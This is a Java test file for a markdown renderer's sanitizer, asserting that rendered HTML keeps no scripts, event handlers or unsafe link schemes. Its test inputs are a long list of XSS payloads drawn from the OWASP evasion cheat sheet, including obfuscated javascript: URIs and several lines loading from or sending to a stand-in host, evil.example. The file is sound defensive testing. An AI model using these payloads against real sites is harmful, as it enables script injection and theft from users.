package org.ecm.web.markdown;

import static org.assertj.core.api.Assertions.assertThat;
import static org.ecm.web.markdown.Rendered.html;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Whatever a text holds, nothing of it acts: attacks after the OWASP XSS Filter Evasion Cheat Sheet. */
class HarmlessTest {

    private static final String TAG =
            "(?is).*<(?!/?(?:p|a|img|b|em|strong|ul|li|code|pre|h2|blockquote|table|tbody|tr|td"
                    + "|th|thead|div|section|q|cite|abbr|br|figure|sub|sup)[ >]).*";
    private static final String ATTRIBUTE = "(?is).*<[^>]*[\\s/\"'](?:on\\w+|style|srcdoc|formaction|action|xlink:href"
            + "|background|http-equiv|target|ping|name|is|slot)\\s*=.*";

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<script\n>alert(1)</script\n>",
                "<script>alert(1)",
                "<<script>alert(1)//<</script>",
                "<img src=x onerror=alert(1)>",
                "<img src=\"/media/a.png\" onerror=\"alert(1)\">",
                "<img/src=`x`/onerror=alert(1)>",
                "<img src=x:alert(alt) onerror=eval(src) alt=0>",
                "<p onclick=\"alert(1)\" onmouseover=alert(1)>x</p>",
                "<p style=\"background:url(javascript:alert(1))\">x</p>",
                "<svg onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
                "<svg><style><img src=x onerror=alert(1)></style></svg>",
                "<math><mi><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mi></math>",
                "<math href=\"javascript:alert(1)\">x</math>",
                "<style>*{background:url(//evil.example)}</style>",
                "<style><img src=\"</style><img src=x onerror=alert(1)//\">",
                "<link rel=stylesheet href=//evil.example/x.css>",
                "<iframe src=\"javascript:alert(1)\"></iframe>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<object data=\"javascript:alert(1)\"></object><embed src=x>",
                "<form action=\"//evil.example\"><input name=a><button formaction=x>b</button></form>",
                "<textarea><img src=x onerror=alert(1)></textarea>",
                "<select><option>x</select>",
                "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
                "<base href=\"//evil.example/\">",
                "<template><script>alert(1)</script></template>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
                "<title></title><img src=x onerror=alert(1)>",
                "<xmp><img src=x onerror=alert(1)></xmp>",
                "<plaintext>x",
                "<!--><img src=x onerror=alert(1)>-->",
                "<!-- --!><img src=x onerror=alert(1)> -->",
                "<![CDATA[><script>alert(1)</script>]]>",
                "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
                "<details open ontoggle=alert(1)>x</details>",
                "<marquee onstart=alert(1)>x</marquee>",
                "<body onload=alert(1)>",
                "<a href=\"https://a.example\" target=_blank ping=//evil.example style=x name=main>x</a>",
                "<q cite=\"javascript:alert(1)\">x</q>",
                "<x-y is=z onclick=alert(1)>x</x-y>",
                "`<script>alert(1)</script>`",
                "```\n</code></pre><script>alert(1)</script>\n```",
                "![x\"onerror=\"alert(1)](media/a.png)",
                "![x](media/a.png \"y\\\" onerror=\\\"alert(1)\")",
                "[x](/a \"y' onclick='alert(1)\")",
                "[x](/a\"onclick=\"alert(1))",
                "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
                "[a]\n\n[a]: <javascript:alert(1)>",
                "&#0;<scr&#0;ipt>alert(1)</scr&#0;ipt>"
            })
    void has_no_element_or_attribute_that_acts(String markdown) {
        assertThat(html("before " + markdown) + html(markdown + "\n\nafter"))
                .doesNotMatch(TAG)
                .doesNotMatch(ATTRIBUTE)
                .doesNotMatch("(?is).*(?:href|src|cite)=\"\\s*(?:javascript|data|vbscript|//).*");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "javascript:alert(1)",
                "JaVaScRiPt:alert(1)",
                " javascript:alert(1)",
                "java\tscript:alert(1)",
                "&#106;avascript:alert(1)",
                "&#x6A;avascript&#58;alert(1)",
                "javascript&colon;alert(1)",
                "java&Tab;script:alert(1)",
                "java&NewLine;script:alert(1)",
                "&#1;javascript:alert(1)",
                "%6aavascript:alert(1)",
                "data:text/html;base64,PHNjcmlwdD4=",
                "DATA:text/html,x",
                "vbscript:msgbox(1)",
                "file:///etc/passwd",
                "blob:https://a.example/x",
                "view-source:x",
                "intent://x",
                "//evil.example",
                "/\\evil.example",
                "\\\\evil.example",
                "foo:bar"
            })
    void has_no_link_that_acts_or_hides_where_it_leads(String address) {
        assertThat(html("[x](<" + address + ">)")).doesNotContain("href");
        assertThat(html("a <a href=\"" + address + "\">x</a>")).isEqualTo("<p>a x</p>");
        assertThat(html("[x]\n\n[x]: <" + address + ">")).doesNotContain("href");
    }

    @Test
    void has_no_link_that_a_browser_reads_as_one_to_elsewhere() {
        assertThat(html("a <a href=\"\\/evil.example\">x</a>")).isEqualTo("<p>a x</p>");
        assertThat(html("[x](<\\/escaped>)")).contains("href=\"/escaped\"");
    }

    @ParameterizedTest
    @CsvSource({
        "https://a.example/b?c&d#e, https://a.example/b?c&amp;d#e",
        "HTTPS://A.example,         HTTPS://A.example",
        "http://a.example,          http://a.example",
        "mailto:ada@a.example,      mailto:ada&#64;a.example",
        "tel:988,                   tel:988",
        "sms:988,                   sms:988",
        "/articles/a,               /articles/a",
        "/,                         /",
        "a,                         a",
        "../a#b,                    ../a#b",
        "#s-a,                      #s-a",
        "/a b,                      /a%20b",
    })
    void has_the_links_that_a_text_needs(String address, String written) {
        assertThat(html("[x](<" + address + ">)")).isEqualTo("<p><a href=\"" + written + "\">x</a></p>");
    }

    @Test
    void keeps_raw_html_that_a_text_needs() {
        var raw = "<p>a <abbr title=\"b\">c</abbr> <q lang=\"fr\">d</q> H<sub>2</sub>O <kbd>e</kbd> <del>f</del></p>";

        assertThat(html(raw)).isEqualTo(raw);
    }

    @ParameterizedTest
    @ValueSource(strings = {"main", "toc", "note", "topics", "s", "fn", "x-s-a", "s-", "s-a b"})
    void takes_no_id_of_the_page_around_it(String id) {
        assertThat(html("<a href=\"/\" id=\"" + id + "\">x</a>")).doesNotContain("id=");
    }

    @Test
    void takes_no_class_of_the_page_around_it() {
        assertThat(html("<p class=\"disclaimer\">x</p><section class=\"crisis\">y</section>"))
                .doesNotContain("class");
    }

    @ParameterizedTest
    @ValueSource(strings = {"</div></main>x", "</p></article>x", "<blockquote>x", "<ul><li>x", "<em><strong>x</em>"})
    void closes_what_it_opens_and_nothing_else(String markdown) {
        var html = html(markdown);

        assertThat(html.replaceAll("<(\\w+)[^>]*>", "<$1>").split("<\\w+>", -1))
                .hasSameSizeAs(html.split("</\\w+>", -1));
        assertThat(html).doesNotContain("</div>", "</main>", "</article>");
    }
}
